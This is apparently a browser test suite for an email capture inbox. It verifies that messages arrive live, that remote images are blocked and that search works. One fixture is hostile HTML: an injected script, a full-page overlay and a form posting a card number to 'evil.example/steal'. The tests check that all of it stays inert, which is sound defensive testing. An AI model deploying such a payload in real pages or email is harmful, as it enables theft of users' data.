// The hosted capture inbox in a real browser (Debian's Chromium, driven by playwright-core)
// against a started Gatepost: sign in with the sandbox key, see a message sent with it arrive
// without reloading, open it, see its html and its timeline; and a hostile message (a script, a
// form posting elsewhere, an overlay over the whole page) shown without any of it taking effect.
// Runtime-neutral: on the Dapr runtime the capture reaches the page through the stream's polling
// of the catalog rather than the in-process wake-up.
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { launchChromium, type Chromium } from '../harness/browser.harness.ts';
import { eventually } from '../harness/gatepost.harness.ts';
import { gatepostWithRelay } from '../harness/suite.harness.ts';

const suite = gatepostWithRelay();
let chromium: Chromium;

beforeAll(async () => {
  chromium = await launchChromium();
});
afterAll(async () => {
  await chromium?.close();
});

const HOSTILE = `<h1 id="greeting">Hello from the inbox test</h1>
<p>Your order <a href="https://shop.example/orders/7">is on its way</a>.</p>
<script>document.getElementById('greeting').textContent = 'script ran'; parent.document.title = 'script ran';</script>
<form id="steal" action="https://evil.example/steal" method="post"><input name="card" value="4111"><button id="pay">Pay</button></form>
<div id="overlay" style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:2147483647;background:rgba(255,0,0,.4)">overlay</div>`;

/** A tab signed in to the inbox with the key; its browser-side console lines collected in `logs`. */
async function signedIn(key: string): Promise<{ page: Page; logs: string[] }> {
  const page = await chromium.context.newPage();
  const logs: string[] = [];
  page.on('console', (m) => logs.push(m.text()));
  await page.goto(`${suite.gp.url}/inbox`);
  await page.fill('#key', key);
  await page.click('form[action="/inbox/session"] button[type="submit"]');
  await page.waitForSelector('#messages[data-loaded="true"]', { state: 'attached' });
  // The stream is open: a capture from now on is sent to the page.
  await page.waitForSelector('#live[data-live="on"]');
  return { page, logs };
}

/** A server standing for a tracking pixel's host: answers a 1x1 GIF and counts what it was asked for. */
async function pixelHost(): Promise<{ url: string; asked: string[]; close(): Promise<void> }> {
  const asked: string[] = [];
  const gif = Buffer.from('R0lGODlhAQABAAAAACwAAAAAAQABAAA=', 'base64');
  const server = createServer((req, res) => {
    asked.push(req.url ?? '');
    res.writeHead(200, { 'content-type': 'image/gif' }).end(gif);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', () => resolve()));
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    asked,
    close: () => new Promise((resolve) => server.close(() => resolve())),
  };
}

describe('the capture inbox in a browser', () => {
  it('refuses a live key with its coded error and no session', async () => {
    const page = await chromium.context.newPage();
    await page.goto(`${suite.gp.url}/inbox`);
    await page.fill('#key', suite.tenant.live);
    await page.click('form[action="/inbox/session"] button[type="submit"]');
    await expect.poll(() => page.locator('[role="alert"]').getAttribute('data-code')).toBe('key_not_allowed');
    expect(await chromium.context.cookies(suite.gp.url!)).toEqual([]);
    await page.close();
  });

  it('shows a message sent with the sandbox key without a reload, its html inert, and its timeline', async () => {
    const { page, logs } = await signedIn(suite.tenant.sandbox);
    // Kept across the test: a reload would lose it.
    await page.evaluate(() => ((window as unknown as { notReloaded: boolean }).notReloaded = true));

    const sent = await suite.gp.request('POST', '/v1/emails', {
      key: suite.tenant.sandbox,
      body: { to: 'ann@example.com', subject: 'Hostile but harmless', html: HOSTILE },
    });
    expect(sent.status).toBe(202);
    const id = sent.body.id as string;
    const row = page.locator(`#messages li[data-id="${id}"]`);
    await row.waitFor();
    expect(await page.evaluate(() => (window as unknown as { notReloaded?: boolean }).notReloaded)).toBe(true);
    await expect.poll(() => row.locator('.subject').textContent()).toBe('Hostile but harmless');

    await row.locator('button').click();
    // Two walls: the frame's sandbox, and the sandbox directive of the policy its document is served under.
    expect(await page.locator('iframe').getAttribute('sandbox')).toBe('allow-popups allow-popups-to-escape-sandbox');
    const frame = page.frameLocator('iframe[title="Message HTML"]');
    await frame.locator('#greeting').waitFor();
    // Chromium says why the script did not run, and the html shows as written.
    await eventually(() => logs.some((l) => l.includes('Blocked script execution') && l.includes('allow-scripts')));
    expect(await frame.locator('#greeting').textContent()).toBe('Hello from the inbox test');
    expect(await page.title()).toBe('Gatepost capture inbox');

    // The form cannot post: the frame's sandbox holds no allow-forms.
    await frame.locator('#pay').dispatchEvent('click');
    await eventually(() => logs.some((l) => l.includes('Blocked form submission') && l.includes('evil.example')));

    // The overlay covers the frame, and nothing of the inbox around it.
    const [overlay, box] = [await frame.locator('#overlay').boundingBox(), await page.locator('iframe').boundingBox()];
    expect(overlay!.y).toBeGreaterThanOrEqual(box!.y);
    expect(overlay!.height).toBeLessThanOrEqual(box!.height);
    const tab = page.locator('.tabs button', { hasText: 'Timeline' });
    const center = await tab.boundingBox();
    expect(
      await page.evaluate(({ x, y }) => document.elementFromPoint(x, y)?.textContent, {
        x: center!.x + center!.width / 2,
        y: center!.y + center!.height / 2,
      }),
    ).toBe('Timeline');

    await tab.click();
    await page.locator('.timeline li[data-type="email.sent"]').waitFor();
    expect(await page.locator('.timeline li[data-type="email.sent"] .reply').textContent()).toContain('Captured');
    expect(await page.locator('.timeline li').first().getAttribute('data-type')).toBe('message.accepted');

    await page.locator('.tabs button', { hasText: 'Links' }).click();
    expect(await page.locator('.links a').getAttribute('href')).toBe('https://shop.example/orders/7');

    // Deleted: gone from the list and from the catalog.
    await page.locator('.message header button', { hasText: 'Delete' }).click();
    await row.waitFor({ state: 'detached' });
    const left = await page.evaluate((url) => fetch(url).then((r) => r.status), `/inbox/api/messages/${id}`);
    expect(left).toBe(404);

    // Signed out: the inbox asks for a key again.
    await page.click('header form button[type="submit"]');
    await page.waitForSelector('form[action="/inbox/session"]');
    await page.close();
  });

  it('blocks remote images until asked, then loads them, and finds a message by search', async () => {
    const host = await pixelHost();
    try {
      const { page, logs } = await signedIn(suite.tenant.sandbox);
      const sent = await suite.gp.request('POST', '/v1/emails', {
        key: suite.tenant.sandbox,
        body: { to: 'bo@example.com', subject: 'With a pixel', html: `<p id="body">Hi</p><img src="${host.url}/open.gif">` },
      });
      expect(sent.status).toBe(202);
      const row = page.locator(`#messages li[data-id="${sent.body.id}"]`);
      await row.waitFor();
      await row.locator('button').click();
      await page.frameLocator('iframe[title="Message HTML"]').locator('#body').waitFor();
      // Chromium refuses the image under the frame's policy; the host was never asked.
      await eventually(() => logs.some((l) => l.includes(`${host.url}/open.gif`) && l.includes('img-src')));
      expect(host.asked).toEqual([]);
      await page.locator('button.images').click();
      await eventually(() => host.asked.includes('/open.gif'));

      // The search box finds this message and not another one the inbox shows.
      const other = await suite.gp.request('POST', '/v1/emails', {
        key: suite.tenant.sandbox,
        body: { to: 'cy@example.com', subject: 'Unrelated', html: '<p>Nothing to see</p>' },
      });
      await page.locator(`#messages li[data-id="${other.body.id}"]`).waitFor();
      await page.fill('#search', 'with a pix');
      await expect
        .poll(() => page.locator('#messages li').evaluateAll((lis) => lis.map((li) => li.getAttribute('data-id'))))
        .toEqual([sent.body.id]);
      await page.close();
    } finally {
      await host.close();
    }
  });
});
